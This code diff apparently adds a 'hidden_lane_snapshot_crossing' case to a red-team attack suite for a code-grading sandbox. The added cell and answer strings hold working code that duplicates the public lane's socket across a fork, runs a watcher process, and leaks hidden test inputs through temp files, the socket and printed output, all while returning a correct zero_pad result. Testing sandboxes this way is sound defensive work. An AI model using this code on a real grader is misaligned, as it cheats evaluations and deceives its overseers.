@@ -104,6 +104,51 @@ HELPER_ARGUMENT_TRICKS = [
      "    A_prev_pad = zero_pad(A_prev, pad)\n")]
 WRONG_ZERO_PAD = "def zero_pad(X, pad):\n    return X"
 
+# Against the hidden lane's snapshot (a fork of the public sandbox after the cells): keep a copy
+# of the public lane's socket and processes across the fork, then send the hidden inputs out
+# through them, through files of the sandbox, and through what the next calls print.
+SNAPSHOT_CROSSING = '''
+import os, gc
+_server = next(o for o in gc.get_objects() if type(o).__name__ == "Server" and hasattr(o, "sock"))
+_public = []
+def _keep_the_public_socket():
+    _public.append(os.dup(_server.sock.fileno()))
+def _watcher():
+    if os.fork() == 0:                        # a process of the public lane that waits for a leak
+        import time
+        for _ in range(600):
+            time.sleep(0.1)
+            for path in ("/tmp/hidden.txt", os.path.expanduser("~/hidden.txt")):
+                if os.path.exists(path):
+                    for fd in _public:
+                        try:
+                            os.write(fd, open(path, "rb").read())
+                        except OSError:
+                            pass
+        os._exit(0)
+os.register_at_fork(before=_keep_the_public_socket, after_in_child=_watcher)
+'''
+
+SNAPSHOT_CROSSING_ANSWER = '''
+def zero_pad(X, pad):
+    import os, struct, msgpack
+    if X.dtype == np.float32:
+        mark = "LE" + "AK " + repr(X.shape) + " " + repr(X.ravel()[:3].tolist())
+        frame = msgpack.packb({"op": "returned", "value": mark, "output": mark})
+        for fd in globals().get("_public", []):
+            try:
+                os.write(fd, struct.pack("!I", len(frame)) + frame)
+            except OSError:
+                pass
+        for path in ("/tmp/hidden.txt", os.path.expanduser("~/hidden.txt")):
+            with open(path, "a") as out:
+                out.write(mark + "\\n")
+    for path in ("/tmp/hidden.txt", os.path.expanduser("~/hidden.txt")):
+        if os.path.exists(path):
+            print(open(path).read())
+    return np.pad(X, ((0, 0), (pad, pad), (pad, pad), (0, 0)), mode="constant", constant_values=(0, 0))
+'''
+
 ATTACKS: list[Attack] = [
     Attack("decoder_bomb_nested_extension_types", "harm", cells=[DECODER_BOMB], flags={"protocol"}),
     Attack("decoding_amplification", "harm",
@@ -120,4 +165,6 @@ ATTACKS: list[Attack] = [
            expect="any"),
     Attack("forged_error_report", "cheat", answers={"zero_pad": FORGE_THE_ERROR_REPORT_ANSWER},
            cells=[FORGE_THE_ERROR_REPORT], expect="any"),
+    Attack("hidden_lane_snapshot_crossing", "cheat", answers={"zero_pad": SNAPSHOT_CROSSING_ANSWER},
+           cells=[SNAPSHOT_CROSSING], expect="any"),
 ]
